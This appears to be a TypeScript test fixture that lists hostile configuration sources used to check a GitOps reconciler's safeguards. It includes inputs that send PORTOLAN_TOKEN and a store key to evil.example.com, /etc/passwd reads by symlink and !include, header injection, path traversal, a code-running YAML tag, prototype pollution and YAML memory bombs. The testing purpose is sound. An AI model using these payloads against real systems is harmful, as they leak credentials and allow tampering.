import { demo } from '../../src/sandbox/seeds/demo.ts';
import { bombs } from './bombs.ts';
import {
  applied,
  billingWeb,
  blogWeb,
  component,
  database,
  type Files,
  rule,
  ruleFile,
  ruleNumbers,
  web,
  WEB_PORTS,
} from './world.ts';

/** A source as somebody who may commit could make it. */
export interface Attack {
  /** What it could destroy, or get hold of, and how. */
  readonly name: string;
  readonly files: Files;
}

const gone = (files: readonly string[]): Files => Object.fromEntries(files.map((file) => [file, null]));
const everything = gone(Object.keys(applied));
const rulesGone = (from: number, to: number): Files =>
  gone(ruleNumbers.filter((at) => at >= from && at <= to).map(ruleFile));
const everyRule = (extra: string, metadata = ''): Files =>
  Object.fromEntries(ruleNumbers.map((at) => [ruleFile(at), rule(`r${at}`, `r${at}.example.com`, extra, metadata)]));
const moved = (rename: (name: string) => string): Files => ({
  ...everything,
  ...Object.fromEntries(Object.entries(applied).map(([name, text]) => [rename(name), text])),
});
const application = (spec: string, name = 'shop'): string => `apiVersion: portolan/v1
kind: Application
metadata: { name: ${name} }
spec: { ${spec} }
`;
const document = (kind: string, spec: string): string =>
  `apiVersion: portolan/v1\nkind: ${kind}\nmetadata: { name: default }\nspec: ${spec}\n`;
const ofShop = `team: ${demo.team}, region: ${demo.region}, appId: ${demo.appId}`;
const webWith = (lines: string, metadata = ''): Files => ({
  'shop/web.yaml': component('shop-web', web, lines, metadata),
});
/** Bytes of the largest size that is read at all. */
const bomb = (name: string): string => (bombs[name] as (bytes: number) => string)(256 * 1024);

const losses: readonly Attack[] = [
  { name: 'everything: the source is empty', files: everything },
  {
    name: 'everything: the files are there and say nothing',
    files: { ...everything, 'shop/a.yaml': '# nothing\n---\n---\n' },
  },
  {
    name: 'everything: only the Application is left',
    files: { ...everything, 'shop/application.yaml': applied['shop/application.yaml'] as string },
  },
  {
    name: 'everything: the Application is gone, and with it all that names it',
    files: {
      ...everything,
      'other.yaml': application(`team: ${demo.team}, region: ${demo.region}, appId: 43`, 'blog'),
    },
  },
  { name: 'half of the rules: half of the files are gone', files: rulesGone(1, 13) },
  { name: 'eleven rules: one more than may go in one run', files: rulesGone(1, 11) },
  { name: 'eight rules: less than a third of all', files: rulesGone(1, 8) },
  { name: 'one rule', files: rulesGone(1, 1) },
  {
    name: 'two components: their files are gone, and the rules with them',
    files: { ...gone(['shop/web.yaml', 'shop/api.yaml']), ...rulesGone(1, 20) },
  },
  { name: 'a database: its install is gone', files: gone(['shop/database.yaml']) },
  { name: 'everything: a folder has another name', files: moved((name) => name.replace('shop/', 'renamed/')) },
  { name: 'everything: files are hidden by their names', files: moved((name) => name.replace('shop/', '.shop/')) },
  { name: 'everything: files are called otherwise', files: moved((name) => name.replace('.yaml', '.txt')) },
  {
    name: 'twenty rules: every resource has another name',
    files: Object.fromEntries(ruleNumbers.map((at) => [ruleFile(at), rule(`x${at}`, `r${at}.example.com`)])),
  },
  {
    name: 'twenty rules: every rule has another domain',
    files: Object.fromEntries(ruleNumbers.map((at) => [ruleFile(at), rule(`r${at}`, `x${at}.example.com`)])),
  },
];

const changes: readonly Attack[] = [
  { name: 'twenty rules: all their fields change', files: everyRule('weight: 1, path: /') },
  {
    name: 'all traffic: six rules get the least weight',
    files: Object.fromEntries(
      ruleNumbers.slice(0, 6).map((at) => [ruleFile(at), rule(`r${at}`, `r${at}.example.com`, 'weight: 1')]),
    ),
  },
  {
    name: 'every address: the port of all rules is closed by its manifest',
    files: webWith(WEB_PORTS.replace('outer: true', 'outer: false')),
  },
  {
    name: 'every address: the port of all rules is closed, and the rules are gone',
    files: {
      ...webWith(WEB_PORTS.replace('inner: true, outer: true', 'inner: false, outer: false')),
      ...rulesGone(1, 20),
    },
  },
  {
    name: 'every address: the protocol of the port changes',
    files: webWith(WEB_PORTS.replace('protocol: http', 'protocol: tcp')),
  },
  { name: 'every port: none is listed, unlisted ones are deleted', files: webWith('ports: []\nunlistedPorts: delete') },
  {
    name: 'every port: none is listed, unlisted ones are deleted, the rules are gone',
    files: { ...webWith('ports: []\nunlistedPorts: delete'), ...rulesGone(1, 20) },
  },
  { name: 'every port: none is listed, unlisted ones are closed', files: webWith('ports: []\nunlistedPorts: close') },
  {
    name: 'two ports without rules: not listed, and deleted',
    files: webWith(
      `ports:\n  - { port: 8080, protocol: http, alias: WEB, inner: true, outer: true }\nunlistedPorts: delete`,
    ),
  },
  {
    name: 'ports of a component that was never on record: not listed, and deleted',
    files: { 'shop/worker.yaml': component('worker', demo.workerServiceId, 'ports: []\nunlistedPorts: delete') },
  },
  {
    name: 'aliases that others rely on: ports swap theirs',
    files: webWith(WEB_PORTS.replace('ADMIN', 'X').replace('PROBE', 'ADMIN').replace('X', 'PROBE')),
  },
];

const takeovers: readonly Attack[] = [
  { name: 'the whole disk: a link to a folder is not followed', files: { 'shop/more': { linkTo: '/etc' } } },
  {
    name: 'the database: an install takes over another by portolan/moved-from',
    files: { 'shop/database.yaml': database('other', 'annotations: { portolan/moved-from: shop-db }') },
  },
  {
    name: 'the database: an install says it is a rule that was renamed',
    files: { 'shop/database.yaml': database('other', 'annotations: { portolan/moved-from: r1 }') },
  },
  {
    name: 'the database: two installs say they are the one that was renamed',
    files: {
      'shop/database.yaml': database('one', 'annotations: { portolan/moved-from: shop-db }'),
      'shop/two.yaml': database('two', 'annotations: { portolan/moved-from: shop-db }'),
    },
  },
  {
    name: 'the cluster: fifty copies of the database',
    files: Object.fromEntries(Array.from({ length: 50 }, (_, at) => [`shop/db${at}.yaml`, database(`db${at}`)])),
  },
  {
    name: 'the rule that somebody made by hand: claimed with other fields',
    files: { 'shop/mine.yaml': rule('mine', 'by-hand.example.com', 'weight: 1') },
  },
  {
    name: 'the rule that somebody made by hand: claimed, marked and given back',
    files: {
      'shop/mine.yaml': rule('mine', 'by-hand.example.com', '', 'annotations: { portolan/on-removal: restore }'),
    },
  },
  {
    name: 'another team’s address: a rule on its domain',
    files: { 'shop/theirs.yaml': rule('theirs', 'billing.example.com') },
  },
  {
    name: 'a neighbour’s address: a rule on its domain',
    files: { 'shop/theirs.yaml': rule('theirs', 'blog.example.com') },
  },
  {
    name: 'every object: thirty claims on what exists',
    files: Object.fromEntries(
      Array.from({ length: 30 }, (_, at) => [
        `shop/c${at}.yaml`,
        rule(`c${at}`, 'by-hand.example.com', `path: /${at}`),
      ]),
    ),
  },
  {
    name: 'another team’s application, named as our own',
    files: { 'shop/application.yaml': application(`team: team-b, region: ${demo.region}, appId: 44`) },
  },
  {
    name: 'another team’s application, named beside our own, with its ports deleted',
    files: {
      'billing.yaml': `${application(`team: team-b, region: ${demo.region}, appId: 44`, 'billing')}---\n${component('billing-web', billingWeb, 'ports: []\nunlistedPorts: delete').replace('application: shop', 'application: billing')}`,
    },
  },
  {
    name: 'another team’s component, named as one of ours',
    files: {
      'shop/x.yaml': component(
        'x',
        billingWeb,
        'ports:\n  - { port: 8080, outer: false, inner: false }\nunlistedPorts: delete',
      ),
    },
  },
  {
    name: 'a neighbour’s component, named as one of ours',
    files: {
      'shop/x.yaml': component(
        'x',
        blogWeb,
        'ports:\n  - { port: 8080, outer: false, inner: false }\nunlistedPorts: delete',
      ),
    },
  },
  {
    name: 'a neighbour’s application, named in place of our own',
    files: { 'shop/application.yaml': application(`team: ${demo.team}, region: ${demo.region}, appId: 43`) },
  },
  {
    name: 'our application: named twice, once with nothing',
    files: { 'again.yaml': application(ofShop, 'again') },
  },
  {
    name: 'our application: named in a region that is under maintenance',
    files: {
      'shop/application.yaml': application(
        `team: ${demo.team}, region: ${demo.maintenanceRegion}, appId: ${demo.appId}`,
      ),
    },
  },
  {
    name: 'all that is looked after: everything is suspended by annotations, and half of it is gone',
    files: { ...everyRule('', 'annotations: { portolan/reconcile: suspend }'), ...rulesGone(1, 10) },
  },
];

const secrets: readonly Attack[] = [
  [
    'the token: a Platform of the source’s own, at a stranger’s address',
    {
      'a.yaml': document(
        'Platform',
        '{ url: "https://evil.example.com", auth: { header: A, value: { env: PORTOLAN_TOKEN } } }',
      ),
    },
  ],
  [
    'the store key: a Store of the source’s own',
    {
      'a.yaml': document(
        'Store',
        '{ url: "https://evil.example.com", domain: d, type: t, accessKey: { env: STORE_ACCESS_KEY } }',
      ),
    },
  ],
  [
    'the guards: Settings of the source’s own',
    { 'a.yaml': document('Settings', '{ prune: { maxShare: 1, maxObjects: 1000 }, scopes: { allow: ["*/*/*"] } }') },
  ],
  ['a file: /etc/passwd by name', { 'shop/mine.yaml': rule('mine', '{ file: /etc/passwd }') }],
  ['the token: by the name of its variable', { 'shop/mine.yaml': rule('mine', '{ env: PORTOLAN_TOKEN }') }],
  ['the token: by substitution', { 'shop/mine.yaml': rule('mine', '"${PORTOLAN_TOKEN}.evil.example.com"') }],
  ['the home folder: by substitution', { 'shop/mine.yaml': rule('mine', '"${HOME}.evil.example.com"') }],
  ['a file: /etc/passwd by a link', { 'shop/mine.yaml': { linkTo: '/etc/passwd' } }],
  ['the configuration: by a link out of the source', { 'shop/mine.yaml': { linkTo: '../../portolan.yaml' } }],
  ['a file: by including it', { 'shop/mine.yaml': rule('mine', '!include /etc/passwd') }],
  [
    'a server: an install from a stranger’s address',
    { 'shop/mine.yaml': database('mine', '', ', url: "https://evil.example.com"') },
  ],
  [
    'the request: a header with a line of its own',
    {
      'shop/mine.yaml': rule(
        'mine',
        'x.example.com',
        'configuration: { setHeaders: [ { key: "X-A\\r\\nX-B", value: "c\\r\\nd" } ] }',
      ),
    },
  ],
  ['the request: a service id that is a path', { 'shop/mine.yaml': component('mine', '../../../users', 'ports: []') }],
  [
    'the request: a team that is a path',
    { 'shop/application.yaml': application(`team: "../../team-b", region: ${demo.region}, appId: 44`) },
  ],
  [
    'the server: an extension that is code',
    { 'shop/mine.yaml': rule('mine', 'x.example.com', 'extensions: [ { key: "__import__(\'os\')", value: "x" } ]') },
  ],
].map(([name, files]) => ({ name, files }) as Attack);

const malformed: readonly Attack[] = [
  ['all memory: aliases of aliases', bomb('aliases of aliases')],
  ['all memory: the largest file, as dense as can be', bomb('a list of one-letter texts')],
  ['all memory: a file of more than 256 KiB', `${'# x\n'.repeat(70_000)}${rule('mine', 'x.example.com')}`],
  ['the stack: ten thousand brackets', `${'['.repeat(10_000)}${']'.repeat(10_000)}`],
  ['the stack: thirty-three levels of maps', Array.from({ length: 33 }, (_, at) => `${' '.repeat(at)}k:`).join('\n')],
  ['every object of the process: __proto__', rule('mine', 'x.example.com', '__proto__: { weight: 1 }')],
  [
    'every object of the process: constructor.prototype',
    rule('mine', 'x.example.com', 'constructor: { prototype: { weight: 1 } }'),
  ],
  ['the terminal: escape sequences in a name', rule('"a\\u001b[2J"', 'x.example.com')],
  ['the terminal: raw control characters', rule('mine', 'x.example.com').replace('mine', 'mi\u001b[31mne')],
  ['the reviewer: text that runs backwards', rule('mine', '"\u202ex.example.com"')],
  ['the reader: a NUL in the middle', `${rule('mine', 'x.example.com')}\u0000`],
  ['the reader: a file in UTF-16', Buffer.from(`\ufeff${rule('mine', 'x.example.com')}`, 'utf16le')],
  ['the reader: bytes that are no text', Buffer.from([0x61, 0x3a, 0x20, 0xc3, 0x28])],
  ['the meaning: another version of YAML', `%YAML 1.1\n---\n${rule('mine', 'x.example.com')}`],
  ['the meaning: a tag that runs code', rule('mine', '!!js/function "function(){}"')],
  ['the meaning: an anchor and a merge', `a: &a { port: 1 }\n---\n${rule('mine', 'x.example.com', '<<: *a')}`],
  ['the meaning: one key twice', rule('mine', 'x.example.com', 'weight: 1, weight: 100')],
  ['the meaning: a port in octal', rule('mine', 'x.example.com', 'weight: 0o17')],
  ['the meaning: a file cut in the middle of a line', (applied['shop/web.yaml'] as string).slice(0, -30)],
  [
    'the meaning: an annotation that nobody knows',
    rule('mine', 'x.example.com', '', 'annotations: { portolan/adopt: "true" }'),
  ],
  [
    'the meaning: an annotation with a value of its own',
    rule('mine', 'x.example.com', '', 'annotations: { portolan/prune: delete }'),
  ],
  ['the meaning: one resource in two files', applied['shop/rules/r1.yaml'] as string],
  ['the meaning: a resource of nobody’s kind', rule('mine', 'x.example.com').replace('HttpGatewayRule', 'Deployment')],
].map(([name, text]) => ({ name, files: { ...rulesGone(15, 20), 'hostile.yaml': text } }) as Attack);

/** By what they aim at. */
export const attacks = { losses, changes, takeovers, secrets, malformed };
